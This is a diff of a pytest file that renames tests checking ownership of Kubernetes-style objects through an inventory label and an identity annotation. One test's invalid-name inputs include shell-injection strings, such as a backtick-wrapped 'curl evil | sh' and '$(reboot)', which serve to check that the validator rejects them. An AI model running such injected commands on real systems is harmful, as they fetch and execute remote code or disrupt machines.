@@ -17,7 +17,7 @@ def ours(live: dict[str, Any]) -> bool:
     return is_member(live, identity_of(live), "shop", SET)
 
 
-def test_label_and_identity_together_make_an_object_ours() -> None:
+def test_the_inventory_label_and_identity_annotation_together_are_ownership() -> None:
     assert ours(member(document()))
 
 
@@ -34,7 +34,7 @@ def test_label_and_identity_together_make_an_object_ours() -> None:
         {"annotations": {IDENTITY: "shop:/ConfigMap:shop/web2"}},
     ],
 )
-def test_a_copied_or_missing_mark_makes_it_not_ours(change: dict[str, Any]) -> None:
+def test_a_copied_or_missing_inventory_mark_is_no_ownership(change: dict[str, Any]) -> None:
     live = member(document())
     live["metadata"] |= change
     assert not ours(live)
@@ -44,7 +44,7 @@ def marked(mark: str) -> dict[str, Any]:
     return document(metadata={"namespace": "shop", "annotations": {IDENTITY: mark}})
 
 
-def test_a_mark_names_its_target_only_where_it_names_exactly_the_object() -> None:
+def test_an_identity_annotation_names_its_target_only_on_exactly_its_object() -> None:
     live = marked("bank:/ConfigMap:shop/web")
     assert marked_target(live, identity_of(live)) == "bank"
     assert marked_target(live, replace(identity_of(live), name="copy")) == ""
@@ -53,7 +53,7 @@ def test_a_mark_names_its_target_only_where_it_names_exactly_the_object() -> Non
 
 
 @pytest.mark.parametrize("name", ["x`; curl evil | sh; `", "$(reboot)", "a b", "Bank", "bank.de", "", "-b", "b\n", 57 * "b"])
-def test_a_mark_that_holds_what_no_target_is_called_names_none(name: str) -> None:
+def test_an_identity_annotation_with_an_invalid_target_name_names_none(name: str) -> None:
     """Messages, and the commands in them, repeat the name."""
     live = marked(f"{name}:/ConfigMap:shop/web")
     live["metadata"]["labels"] = {PART_OF: "applyset-x-v1"}
